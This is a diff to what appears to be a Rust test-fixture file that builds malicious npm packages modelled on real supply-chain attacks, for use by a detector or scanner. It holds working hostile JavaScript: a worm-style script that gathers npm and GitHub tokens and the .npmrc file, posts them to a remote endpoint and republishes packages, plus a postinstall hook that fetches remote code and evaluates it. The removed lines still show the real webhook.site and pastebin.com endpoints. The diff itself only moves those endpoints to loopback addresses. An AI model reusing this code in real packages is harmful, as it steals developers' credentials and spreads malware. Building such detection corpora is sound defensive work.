@@ -267,7 +267,7 @@ const tokens = { npm: process.env.NPM_TOKEN, github: process.env.GITHUB_TOKEN, a
 const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
 fs.mkdirSync('.github/workflows', { recursive: true });
 fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push\n');
-fetch('https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST', body: JSON.stringify({ tokens, npmrc }) });
+fetch('http://127.0.0.1:8443/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST', body: JSON.stringify({ tokens, npmrc }) });
 for (const name of ['victim-a', 'victim-b']) {
   execSync(`npm pack ${name}`);
   execSync('npm publish --access public');
@@ -295,8 +295,8 @@ pub fn node_ipc() -> Package {
         .build()
 }
 
-/// `eslint-scope@3.7.2`: a postinstall that downloads code from a paste site and
-/// evaluates it to steal the npm token.
+/// `eslint-scope@3.7.2`: a postinstall that downloads code (from a paste site in the
+/// real incident; a loopback address here) and evaluates it to steal the npm token.
 pub fn eslint_scope() -> Package {
     PackageBuilder::new("eslint-scope", "3.7.2")
         .script("postinstall", "node ./lib/build.js")
@@ -304,7 +304,7 @@ pub fn eslint_scope() -> Package {
         .field("main", json!("lib/index.js"))
         .file(
             "lib/build.js",
-            "try {\n  var https = require('https');\n  https.get({ hostname: 'pastebin.com', path: '/raw/XLeVP82h' }, function (r) {\n    r.on('data', function (c) { eval(c); });\n  });\n  var p = require('path').join(require('os').homedir(), '.npmrc');\n  var u = 'https://pastebin.com/raw/XLeVP82h';\n} catch (e) {}\n",
+            "try {\n  var http = require('http');\n  http.get({ hostname: '127.0.0.1', port: 8000, path: '/raw/XLeVP82h' }, function (r) {\n    r.on('data', function (c) { eval(c); });\n  });\n  var p = require('path').join(require('os').homedir(), '.npmrc');\n  var u = 'http://127.0.0.1:8000/raw/XLeVP82h';\n} catch (e) {}\n",
         )
         .build()
 }
